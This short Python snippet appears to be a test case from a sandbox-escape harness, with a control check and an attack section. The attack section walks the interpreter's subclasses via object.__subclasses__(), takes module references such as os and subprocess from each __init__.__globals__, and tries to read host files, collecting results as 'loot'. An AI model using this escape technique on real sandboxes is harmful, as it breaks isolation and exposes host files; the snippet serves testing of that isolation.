"""Walks to every class of the interpreter and tries the ones that open, run or import.

Escape: a file of the host, or a process
Control: the walk finds the classes of this interpreter
"""

# control
len(object.__subclasses__()) > 50

# attack
loot = []
for cls in vault.__class__.__mro__[-1].__subclasses__():
    init = getattr(cls.__init__, "__globals__", {})
    for name in ("os", "sys", "io", "subprocess", "builtins"):
        module = init.get(name)
        for path in (places["closed_file"], places["open_file"]):
            try:
                loot.append(module.open(path).read())
            except Exception as error:
                loot.append(type(error).__name__)
    if len(loot) > 500:
        break
sorted(set(map(str, loot)))
